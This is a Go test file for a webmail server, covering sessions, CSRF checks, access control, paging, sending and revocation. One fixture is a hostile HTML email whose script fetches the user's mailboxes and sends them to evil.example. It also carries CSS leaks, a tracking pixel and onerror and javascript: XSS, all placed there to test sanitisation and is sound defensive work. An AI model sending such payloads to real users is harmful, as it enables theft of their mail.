package webmail

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"mime/multipart"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/netip"
	"net/url"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"petrel/internal/lib/address"
	"petrel/internal/mail/auth"
	"petrel/internal/mail/deliver"
	"petrel/internal/mail/message"
	"petrel/internal/server/httpd"
	"petrel/internal/store"
	"petrel/internal/store/sqlite"
)

// env is a webmail over a real store and the real authenticator, behind the real web
// listener (httpd), with a submitter that delivers local mail as the submission path would.
type env struct {
	t     testing.TB
	st    *sqlite.Store
	wm    *Webmail
	url   string
	sub   *localSubmitter
	alice store.Account
	bob   store.Account
}

// localSubmitter delivers to local accounts through deliver.Deliverer and records what it
// was given; the real one (smtpd.Server.Submit) is tested in smtpd and end to end.
type localSubmitter struct {
	d    *deliver.Deliverer
	mu   sync.Mutex
	sent []string
}

func (l *localSubmitter) Submit(acct store.Account, _ netip.Addr, _ string, _ bool, from string, rcpts []string, body io.Reader) (string, error) {
	b, err := io.ReadAll(body)
	if err != nil {
		return "", err
	}
	var targets []store.Target
	for _, r := range rcpts {
		a, err := address.Parse(r)
		if err != nil {
			return "", err
		}
		t, err := l.d.Resolve(context.Background(), a)
		if err != nil {
			return "", err
		}
		targets = append(targets, t...)
	}
	spool := deliver.NewSpool("", 1<<30)
	defer spool.Close()
	spool.Write(b)
	if _, err := l.d.Deliver(context.Background(), deliver.Envelope{MailFrom: from, Targets: targets}, spool); err != nil {
		return "", err
	}
	l.mu.Lock()
	l.sent = append(l.sent, string(b))
	l.mu.Unlock()
	return "ID1", nil
}

func newEnv(t testing.TB) *env {
	t.Helper()
	st, err := sqlite.Open(filepath.Join(t.TempDir(), "petrel.db"), sqlite.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	ctx := context.Background()
	if err := st.AddDomain(ctx, "example.test"); err != nil {
		t.Fatal(err)
	}
	e := &env{t: t, st: st}
	for _, p := range []struct {
		addr string
		dst  *store.Account
	}{{"alice@example.test", &e.alice}, {"bob@example.test", &e.bob}} {
		cred, err := auth.NewCredentials("secret-" + p.addr)
		if err != nil {
			t.Fatal(err)
		}
		if *p.dst, err = st.AddAccount(ctx, p.addr, cred); err != nil {
			t.Fatal(err)
		}
	}
	e.serve()
	return e
}

// serve starts a webmail server on e.st (another node on the same store, the second time).
func (e *env) serve() {
	t, st := e.t, e.st
	log := slog.New(slog.DiscardHandler)
	au := auth.New(st, auth.Config{FailureDelay: time.Millisecond, MaxFailureDelay: time.Millisecond}, log)
	e.sub = &localSubmitter{d: deliver.New(st, log)}
	e.wm = New(Config{MaxUpload: 1 << 20}, st, au, e.sub, log)
	mux := httpd.NewRoutes()
	e.wm.Register(mux)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	srv := httpd.New(httpd.Config{}, mux, log)
	srv.OnShutdown(e.wm.CloseStreams)
	go srv.Serve(l)
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		srv.Shutdown(ctx)
	})
	e.url = "http://" + l.Addr().String()
}

// deliver puts a raw message (LF or CRLF) into an account's mailbox.
func (e *env) deliver(acct store.Account, mailbox, raw string) uint32 {
	e.t.Helper()
	raw = strings.ReplaceAll(strings.ReplaceAll(raw, "\r\n", "\n"), "\n", "\r\n")
	pm, err := message.ParseAt(strings.NewReader(raw), int64(len(raw)))
	if err != nil {
		e.t.Fatal(err)
	}
	d, err := e.st.Deliver(context.Background(), &store.Delivery{Targets: []store.Target{{AccountID: acct.ID, Mailbox: mailbox}},
		Body: strings.NewReader(raw), Size: int64(len(raw)), Parsed: pm})
	if err != nil {
		e.t.Fatal(err)
	}
	return d.Messages[0].UID
}

func (e *env) mailboxID(acct store.Account, name string) int64 {
	e.t.Helper()
	mb, err := e.st.Mailbox(context.Background(), acct.ID, name)
	if err != nil {
		e.t.Fatal(err)
	}
	return mb.ID
}

// browser is a logged-in client with its cookie jar and CSRF token.
type browser struct {
	e    *env
	c    *http.Client
	csrf string
}

func (e *env) login(addr, password string) (*browser, *http.Response) {
	e.t.Helper()
	jar, _ := cookiejar.New(nil)
	c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	b := &browser{e: e, c: c}
	page := b.get("/")
	tok := regexp.MustCompile(`name="csrf" value="([^"]+)"`).FindStringSubmatch(page)
	if tok == nil {
		e.t.Fatalf("no login token in:\n%s", page)
	}
	resp, err := c.PostForm(e.url+"/login", url.Values{"username": {addr}, "password": {password}, "csrf": {tok[1]}})
	if err != nil {
		e.t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode == http.StatusSeeOther {
		var s sessionJSON
		b.getJSON("/api/session", &s)
		b.csrf = s.CSRF
	}
	return b, resp
}

func (b *browser) get(path string) string {
	b.e.t.Helper()
	resp, err := b.c.Get(b.e.url + path)
	if err != nil {
		b.e.t.Fatal(err)
	}
	defer resp.Body.Close()
	body, _ := io.ReadAll(resp.Body)
	return string(body)
}

func (b *browser) getJSON(path string, v any) *http.Response {
	b.e.t.Helper()
	resp, err := b.c.Get(b.e.url + path)
	if err != nil {
		b.e.t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode == 200 {
		if err := json.NewDecoder(resp.Body).Decode(v); err != nil {
			b.e.t.Fatalf("%s: %v", path, err)
		}
	}
	return resp
}

func (b *browser) post(path string, v any, hdr map[string]string) *http.Response {
	b.e.t.Helper()
	body, _ := json.Marshal(v)
	req, _ := http.NewRequest("POST", b.e.url+path, bytes.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if b.csrf != "" {
		req.Header.Set("X-CSRF-Token", b.csrf)
	}
	for k, v := range hdr {
		if v == "" {
			req.Header.Del(k)
		} else {
			req.Header.Set(k, v)
		}
	}
	resp, err := b.c.Do(req)
	if err != nil {
		b.e.t.Fatal(err)
	}
	io.Copy(io.Discard, resp.Body)
	resp.Body.Close()
	return resp
}

func TestLoginSessionCookie(t *testing.T) {
	e := newEnv(t)
	if _, resp := e.login("alice@example.test", "wrong"); resp.StatusCode != http.StatusUnauthorized {
		t.Errorf("wrong password: %s", resp.Status)
	}
	b, resp := e.login("alice@example.test", "secret-alice@example.test")
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("login: %s", resp.Status)
	}
	var cookie string
	for _, c := range resp.Header.Values("Set-Cookie") {
		if strings.HasPrefix(c, cookiePlain+"=") {
			cookie = c
		}
	}
	for _, attr := range []string{"HttpOnly", "SameSite=Strict", "Path=/"} {
		if !strings.Contains(cookie, attr) {
			t.Errorf("session cookie %q lacks %s", cookie, attr)
		}
	}
	page, err := b.c.Get(e.url + "/")
	if err != nil {
		t.Fatal(err)
	}
	page.Body.Close()
	if csp := page.Header.Get("Content-Security-Policy"); csp != PageCSP || strings.Contains(csp, "unsafe-inline") {
		t.Errorf("page CSP %q", csp)
	}
	var s sessionJSON
	b.getJSON("/api/session", &s)
	if s.Address != "alice@example.test" || s.CSRF == "" {
		t.Errorf("session %+v", s)
	}
	// Logout ends the session on the server: the old cookie no longer works.
	old := b.c.Jar.Cookies(mustURL(e.url))
	if r := b.post("/logout", nil, nil); r.StatusCode != http.StatusSeeOther {
		t.Errorf("logout: %s", r.Status)
	}
	b.c.Jar.SetCookies(mustURL(e.url), old)
	if r := b.getJSON("/api/mailboxes", &struct{}{}); r.StatusCode != http.StatusUnauthorized {
		t.Errorf("after logout: %s", r.Status)
	}
	// Revoke ends every session of an account.
	b2, _ := e.login("alice@example.test", "secret-alice@example.test")
	if n := e.wm.Sessions.Revoke(e.alice.ID); n != 1 {
		t.Errorf("revoked %d sessions", n)
	}
	if r := b2.getJSON("/api/mailboxes", &struct{}{}); r.StatusCode != http.StatusUnauthorized {
		t.Errorf("after revoke: %s", r.Status)
	}
}

func mustURL(s string) *url.URL {
	u, err := url.Parse(s)
	if err != nil {
		panic(err)
	}
	return u
}

func TestCSRFAndCrossSite(t *testing.T) {
	e := newEnv(t)
	uid := e.deliver(e.alice, "INBOX", "Subject: x\n\nhello\n")
	b, _ := e.login("alice@example.test", "secret-alice@example.test")
	path := fmt.Sprintf("/api/mailboxes/%d/flags", e.mailboxID(e.alice, "INBOX"))
	req := map[string]any{"uids": []uint32{uid}, "add": []string{`\Flagged`}}
	for _, c := range []struct {
		name string
		hdr  map[string]string
		want int
	}{
		{"no token", map[string]string{"X-CSRF-Token": ""}, 403},
		{"wrong token", map[string]string{"X-CSRF-Token": "nope"}, 403},
		{"other origin", map[string]string{"Origin": "https://evil.example"}, 403},
		{"cross-site fetch", map[string]string{"Sec-Fetch-Site": "cross-site"}, 403},
		{"ours", map[string]string{"Origin": e.url, "Sec-Fetch-Site": "same-origin"}, 200},
	} {
		if r := b.post(path, req, c.hdr); r.StatusCode != c.want {
			t.Errorf("%s: %s, want %d", c.name, r.Status, c.want)
		}
	}
	// A form another site posts to the login is refused before any password is tried.
	r, err := http.NewRequest("POST", e.url+"/login", strings.NewReader("username=alice%40example.test&password=x"))
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r.Header.Set("Origin", "https://evil.example")
	resp, err := http.DefaultClient.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 403 {
		t.Errorf("cross-site login: %s", resp.Status)
	}
}

func TestOtherAccountRefused(t *testing.T) {
	e := newEnv(t)
	uid := e.deliver(e.bob, "INBOX", "Subject: bob's\n\nprivate\n")
	b, _ := e.login("alice@example.test", "secret-alice@example.test")
	bobInbox := e.mailboxID(e.bob, "INBOX")
	for _, p := range []string{fmt.Sprintf("/api/mailboxes/%d/messages", bobInbox), fmt.Sprintf("/api/mailboxes/%d/messages/%d", bobInbox, uid),
		fmt.Sprintf("/api/mailboxes/%d/messages/%d/raw", bobInbox, uid)} {
		if r := b.getJSON(p, &struct{}{}); r.StatusCode != 404 {
			t.Errorf("%s: %s", p, r.Status)
		}
	}
	if r := b.post(fmt.Sprintf("/api/mailboxes/%d/delete", bobInbox), map[string]any{"uids": []uint32{uid}}, nil); r.StatusCode != 404 {
		t.Errorf("delete in bob's mailbox: %s", r.Status)
	}
}

func TestPaging(t *testing.T) {
	e := newEnv(t)
	const n = 137
	for i := 1; i <= n; i++ {
		e.deliver(e.alice, "INBOX", fmt.Sprintf("Subject: message %d\n\nbody %d\n", i, i))
	}
	// Gaps in the UIDs: expunge every third message.
	inbox := e.mailboxID(e.alice, "INBOX")
	var gone []uint32
	for u := uint32(3); u <= n; u += 3 {
		gone = append(gone, u)
	}
	if _, err := e.st.Expunge(context.Background(), inbox, gone); err != nil {
		t.Fatal(err)
	}
	b, _ := e.login("alice@example.test", "secret-alice@example.test")
	var seen []uint32
	before := uint32(0)
	for pages := 0; ; pages++ {
		if pages > 10 {
			t.Fatal("paging does not end")
		}
		var p pageJSON
		b.getJSON(fmt.Sprintf("/api/mailboxes/%d/messages?before=%d", inbox, before), &p)
		for _, m := range p.Messages {
			if len(seen) > 0 && m.UID >= seen[len(seen)-1] {
				t.Fatalf("UID %d after %d: not newest first", m.UID, seen[len(seen)-1])
			}
			if m.Subject != fmt.Sprintf("message %d", m.UID) {
				t.Errorf("UID %d subject %q", m.UID, m.Subject)
			}
			seen = append(seen, m.UID)
		}
		if p.Next == 0 {
			break
		}
		if len(p.Messages) != DefaultPageSize {
			t.Errorf("a page that is not the last has %d messages", len(p.Messages))
		}
		before = p.Next
	}
	if want := n - len(gone); len(seen) != want {
		t.Errorf("listed %d messages, want %d", len(seen), want)
	}
}

func TestSearch(t *testing.T) {
	e := newEnv(t)
	e.deliver(e.alice, "INBOX", "Subject: lunch\n\nthe pelican menu\n")
	want := e.deliver(e.alice, "INBOX", "Subject: boats\n\nthe albatross sails\n")
	b, _ := e.login("alice@example.test", "secret-alice@example.test")
	var p pageJSON
	b.getJSON(fmt.Sprintf("/api/mailboxes/%d/search?q=albatross", e.mailboxID(e.alice, "INBOX")), &p)
	if len(p.Messages) != 1 || p.Messages[0].UID != want {
		t.Errorf("search found %+v, want UID %d", p.Messages, want)
	}
}

// hostile is a message whose HTML tries every trick the sanitiser and the frame's policy
// must stop.
const hostile = `From: Mallory <mallory@evil.example>
To: alice@example.test
Subject: open me
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b1

--b1
Content-Type: text/html; charset=utf-8

<html><head><style>input[value^="a"] { background: url(https://evil.example/leak?a) }</style>
<script>fetch('/api/mailboxes').then(r=>r.text()).then(t=>fetch('https://evil.example/?'+t))</script></head>
<body><p>Hello <b>Alice</b></p>
<img src="https://evil.example/pixel.gif" width="1" height="1">
<img src="x" onerror="alert(1)">
<a href="javascript:alert(2)">click</a>
<a href="https://example.org/">a real link</a>
<div style="background-image: url(https://evil.example/css)">styled</div>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/"><input name=p></form>
</body></html>
--b1
Content-Type: text/html; name="invoice.html"
Content-Disposition: attachment; filename="invoice.html"

<script>alert(3)</script>
--b1--
`

func TestHostileHTML(t *testing.T) {
	e := newEnv(t)
	uid := e.deliver(e.alice, "INBOX", hostile)
	b, _ := e.login("alice@example.test", "secret-alice@example.test")
	base := fmt.Sprintf("/api/mailboxes/%d/messages/%d", e.mailboxID(e.alice, "INBOX"), uid)
	var m messageJSON
	b.getJSON(base, &m)
	if !m.HasHTML || !m.RemoteImage || len(m.Attachments) != 1 || m.Attachments[0].Name != "invoice.html" {
		t.Fatalf("message %+v", m)
	}
	resp, err := b.c.Get(e.url + base + "/html")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	doc := strings.ToLower(string(body))
	for _, bad := range []string{"<script", "onerror", "javascript:", "<style", "style=", "<iframe", "<form", "evil.example/leak", "evil.example/css"} {
		if strings.Contains(doc, bad) {
			t.Errorf("sanitised HTML contains %q:\n%s", bad, body)
		}
	}
	for _, good := range []string{"<b>alice</b>", `href="https://example.org/"`, "noreferrer"} {
		if !strings.Contains(doc, good) {
			t.Errorf("sanitised HTML lost %q:\n%s", good, body)
		}
	}
	csp := resp.Header.Get("Content-Security-Policy")
	if !strings.Contains(csp, "sandbox") || strings.Contains(csp, "allow-scripts") || strings.Contains(csp, "allow-same-origin") ||
		!strings.Contains(csp, "img-src data:;") || !strings.Contains(csp, "default-src 'none'") {
		t.Errorf("frame CSP %q", csp)
	}
	if xfo := resp.Header.Get("X-Frame-Options"); xfo != "SAMEORIGIN" {
		t.Errorf("X-Frame-Options %q", xfo)
	}
	resp, err = b.c.Get(e.url + base + "/html?images=1")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "img-src data: https:") {
		t.Errorf("images allowed: CSP %q", csp)
	}
	// The HTML attachment is a download, never a page of ours.
	resp, err = b.c.Get(e.url + base + fmt.Sprintf("/parts/%d", m.Attachments[0].Part))
	if err != nil {
		t.Fatal(err)
	}
	body, _ = io.ReadAll(resp.Body)
	resp.Body.Close()
	if cd := resp.Header.Get("Content-Disposition"); cd != `attachment; filename=invoice.html` {
		t.Errorf("Content-Disposition %q", cd)
	}
	if ct := resp.Header.Get("Content-Type"); ct != "text/html" || resp.Header.Get("X-Content-Type-Options") != "nosniff" ||
		!strings.Contains(resp.Header.Get("Content-Security-Policy"), "sandbox") || string(body) != "<script>alert(3)</script>" {
		t.Errorf("attachment: %q %q %q", ct, resp.Header.Get("Content-Security-Policy"), body)
	}
}

func TestSendAndDraft(t *testing.T) {
	e := newEnv(t)
	orig := e.deliver(e.alice, "INBOX", "From: bob@example.test\nSubject: question\nMessage-ID: <q1@example.test>\n\nwhat?\n")
	b, _ := e.login("alice@example.test", "secret-alice@example.test")
	inbox := e.mailboxID(e.alice, "INBOX")
	send := func(fields map[string]string, file string) (*http.Response, sendResult) {
		var buf bytes.Buffer
		mw := multipart.NewWriter(&buf)
		for k, v := range fields {
			mw.WriteField(k, v)
		}
		if file != "" {
			fw, _ := mw.CreateFormFile("attachment", "notes.txt")
			io.WriteString(fw, file)
		}
		mw.Close()
		req, _ := http.NewRequest("POST", e.url+"/api/send", &buf)
		req.Header.Set("Content-Type", mw.FormDataContentType())
		req.Header.Set("X-CSRF-Token", b.csrf)
		resp, err := b.c.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer resp.Body.Close()
		var res sendResult
		json.NewDecoder(resp.Body).Decode(&res)
		return resp, res
	}
	resp, res := send(map[string]string{"to": "Bob <bob@example.test>", "subject": "Re: question", "body": "line one\nline two",
		"in_reply_to": "q1@example.test", "references": "<q1@example.test>", "reply_mailbox": fmt.Sprint(inbox), "reply_uid": fmt.Sprint(orig)}, "attached text")
	if resp.StatusCode != 200 || res.UID == 0 || res.Mailbox != e.mailboxID(e.alice, store.Sent) {
		t.Fatalf("send: %s %+v", resp.Status, res)
	}
	e.sub.mu.Lock()
	sent := e.sub.sent[0]
	e.sub.mu.Unlock()
	for _, want := range []string{"From: <alice@example.test>\r\n", "In-Reply-To: <q1@example.test>\r\n", "multipart/mixed",
		"filename=notes.txt", "line one\r\nline two"} {
		if !strings.Contains(sent, want) {
			t.Errorf("sent message lacks %q:\n%s", want, sent)
		}
	}
	if bobInbox, _ := e.st.Mailbox(context.Background(), e.bob.ID, "INBOX"); bobInbox.Messages != 1 {
		t.Errorf("bob's INBOX has %d messages", bobInbox.Messages)
	}
	msgs, _ := e.st.Messages(context.Background(), inbox, store.Filter{UIDs: []store.UIDRange{{First: orig, Last: orig}}})
	if len(msgs) != 1 || !strings.Contains(strings.Join(msgs[0].Flags, " "), `\Answered`) {
		t.Errorf("the original: %+v", msgs)
	}
	// A draft goes to Drafts, and a second save replaces it.
	_, d1 := send(map[string]string{"to": "bob@example.test", "subject": "later", "body": "v1", "draft": "1"}, "")
	_, d2 := send(map[string]string{"to": "bob@example.test", "subject": "later", "body": "v2", "draft": "1", "draft_uid": fmt.Sprint(d1.UID)}, "")
	drafts, _ := e.st.Mailbox(context.Background(), e.alice.ID, store.Drafts)
	if d1.Mailbox != drafts.ID || d2.UID == d1.UID || drafts.Messages != 1 {
		t.Errorf("drafts: %+v %+v, %d messages", d1, d2, drafts.Messages)
	}
	// Over the upload limit: 413, nothing sent.
	if resp, _ := send(map[string]string{"to": "bob@example.test"}, strings.Repeat("x", 2<<20)); resp.StatusCode != http.StatusRequestEntityTooLarge {
		t.Errorf("too large: %s", resp.Status)
	}
}

func TestEvents(t *testing.T) {
	e := newEnv(t)
	uid := e.deliver(e.alice, "INBOX", "Subject: x\n\nhello\n")
	b, _ := e.login("alice@example.test", "secret-alice@example.test")
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	req, _ := http.NewRequestWithContext(ctx, "GET", e.url+"/api/events", nil)
	resp, err := b.c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); ct != "text/event-stream" {
		t.Fatalf("Content-Type %q", ct)
	}
	buf := make([]byte, 4096)
	var got strings.Builder
	read := func(want string) {
		for !strings.Contains(got.String(), want) {
			n, err := resp.Body.Read(buf)
			got.Write(buf[:n])
			if err != nil {
				t.Fatalf("waiting for %q: %v; got %q", want, err, got.String())
			}
		}
	}
	read("event: hello")
	// A flag set by another client (IMAP, here the store directly) arrives as an event.
	inbox := e.mailboxID(e.alice, "INBOX")
	if _, err := e.st.SetFlags(context.Background(), inbox, []uint32{uid}, store.FlagChange{Mode: store.FlagsAdd, Flags: []string{`\Flagged`}}); err != nil {
		t.Fatal(err)
	}
	read(fmt.Sprintf(`"kind":"flags","mailbox":%d,"uids":[%d]`, inbox, uid))
}

// TestSessionRevokedInStore: with sessions recorded in the store, removing the row (what
// `petrel webmail revoke` does from another process) logs the browser out at its next
// request, and a logout removes the row.
func TestSessionRevokedInStore(t *testing.T) {
	e := newEnv(t)
	if err := e.wm.Sessions.Persist(context.Background(), e.st); err != nil {
		t.Fatal(err)
	}
	b, _ := e.login("alice@example.test", "secret-alice@example.test")
	if r := b.getJSON("/api/session", &sessionJSON{}); r.StatusCode != 200 {
		t.Fatalf("before revoking: %s", r.Status)
	}
	list, err := e.st.ListWebSessions(context.Background())
	if err != nil || len(list) != 1 || list[0].Address != "alice@example.test" || list[0].Remote != "127.0.0.1" {
		t.Fatalf("recorded sessions %+v, %v", list, err)
	}
	if n, err := e.st.RevokeWebSessions(context.Background(), 0, list[0].ID); n != 1 || err != nil {
		t.Fatalf("revoke: %d %v", n, err)
	}
	if r := b.getJSON("/api/session", &sessionJSON{}); r.StatusCode != http.StatusUnauthorized {
		t.Errorf("after revoking: %s, want 401", r.Status)
	}
	// A logout forgets the row.
	b2, _ := e.login("bob@example.test", "secret-bob@example.test")
	if r := b2.post("/logout", nil, nil); r.StatusCode >= 400 {
		t.Fatalf("logout: %s", r.Status)
	}
	if list, _ := e.st.ListWebSessions(context.Background()); len(list) != 0 {
		t.Errorf("sessions after logout: %+v", list)
	}
}

// TestSessionOnAnotherNode: with sessions in a shared store, a session started on one
// server (node) is taken up by another at its first request there, CSRF token included,
// and a revocation in the store ends it on both.
func TestSessionOnAnotherNode(t *testing.T) {
	a := newEnv(t)
	b := *a
	b.serve() // a second webmail on the same store
	for _, e := range []*env{a, &b} {
		if err := e.wm.Sessions.Persist(context.Background(), e.st); err != nil {
			t.Fatal(err)
		}
	}
	onA, _ := a.login("alice@example.test", "secret-alice@example.test")
	// The cookie jar ignores ports: the same browser, now talking to node b.
	onB := &browser{e: &b, c: onA.c, csrf: onA.csrf}
	var got sessionJSON
	if r := onB.getJSON("/api/session", &got); r.StatusCode != 200 || got.Address != "alice@example.test" || got.CSRF != onA.csrf {
		t.Fatalf("session on node b: %s %+v, want alice's with node a's CSRF token", r.Status, got)
	}
	if r := onB.post("/api/mailboxes", map[string]string{"name": "Made on B"}, nil); r.StatusCode >= 400 {
		t.Fatalf("state-changing request on node b: %s", r.Status)
	}
	if n, err := a.st.RevokeWebSessions(context.Background(), a.alice.ID, ""); n != 1 || err != nil {
		t.Fatalf("revoke: %d, %v", n, err)
	}
	for name, br := range map[string]*browser{"a": onA, "b": onB} {
		if r := br.getJSON("/api/session", &sessionJSON{}); r.StatusCode != http.StatusUnauthorized {
			t.Errorf("node %s after the revocation: %s, want 401", name, r.Status)
		}
	}
	// A token no node issued is refused by both.
	req, _ := http.NewRequest("GET", b.url+"/api/session", nil)
	req.AddCookie(&http.Cookie{Name: "petrel-session", Value: "not-a-token"})
	r, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	r.Body.Close()
	if r.StatusCode != http.StatusUnauthorized {
		t.Errorf("forged token: %s, want 401", r.Status)
	}
}
